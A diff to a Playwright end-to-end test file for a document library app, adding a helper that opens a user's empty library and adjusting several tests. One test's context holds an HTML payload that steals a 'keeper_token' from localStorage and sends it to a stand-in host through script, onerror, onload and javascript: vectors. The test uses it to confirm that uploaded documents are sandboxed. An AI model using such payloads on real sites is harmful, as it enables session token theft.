@@ -1,6 +1,7 @@
 import { readFile } from 'node:fs/promises'
 import type { Page } from '@playwright/test'
 import { unzipSync } from 'fflate'
+import type { BuiltKeeper } from './built-keeper.ts'
 import { arrive, expect, signIn, test } from './fixtures.ts'
 import { expectNoBreach } from './no-breach.ts'
 
@@ -16,6 +17,15 @@ const text = (name: string, words: string, mimeType = 'text/plain'): Sent => ({
 })
 const card = (page: Page, name: string) => page.getByRole('article', { name, exact: true })
 const search = (page: Page) => page.getByRole('searchbox', { name: 'Search documents' })
+
+/** Ada's, empty; what the shell asks for by itself has been asked for. */
+async function openLibrary(page: Page, keeper: BuiltKeeper) {
+  const last = page.waitForRequest(/\/api\/events/)
+  await arrive(page, keeper, 'ada', { path: '/library' })
+  await expect(page.getByText('No documents found')).toBeVisible()
+  await last
+  await page.waitForTimeout(500)
+}
 
 async function upload(page: Page, ...files: Sent[]) {
   await page.getByLabel('Choose documents').setInputFiles(files)
@@ -48,9 +58,7 @@ test('several files show their progress each, are there after a reload, and no c
   keeper,
   context,
 }) => {
-  await arrive(page, keeper, 'ada', { path: '/library' })
-  await expect(page.getByText('No documents found')).toBeVisible()
-  await page.waitForLoadState('networkidle')
+  await openLibrary(page, keeper)
   const calls: string[] = []
   page.on('request', (request) => {
     if (new URL(request.url()).pathname.startsWith('/api/')) calls.push(`${request.method()} ${request.url()}`)
@@ -180,7 +188,7 @@ test('words in a PDF, a page and a letter are found, and a PDF is read page by p
 })
 
 test('documents that would steal the token or call home cannot, whatever they are', async ({ page, keeper }) => {
-  await arrive(page, keeper, 'ada', { path: '/library' })
+  await openLibrary(page, keeper)
   const home = 'https://home.example'
   const steal = `top.stolen=localStorage.getItem('keeper_token');fetch('${home}/?'+top.stolen)`
   const html = `<style>@import "${home}/a.css"</style><link rel=stylesheet href=${home}/b.css><script>${steal}</script><meta http-equiv=refresh content="0;url=${home}"><img src="${home}/i.png" onerror="${steal}"><svg onload="${steal}"></svg><iframe src="javascript:${steal}"></iframe><a href="javascript:${steal}">press</a><form action=${home}><button>send</button></form><p>harmless words</p>`
@@ -271,7 +279,7 @@ test('signing out leaves documents for their person, and nobody else sees them h
     .first()
     .click()
   await expect(page).not.toHaveURL(/library/)
-  await arrive(page, keeper, 'grace', { path: '/library' })
+  await arrive(page, keeper, 'ben', { path: '/library' })
   await expect(page.getByText('No documents found')).toBeVisible()
   await search(page).fill('only mine')
   await expect(page.getByRole('article')).toHaveCount(0)
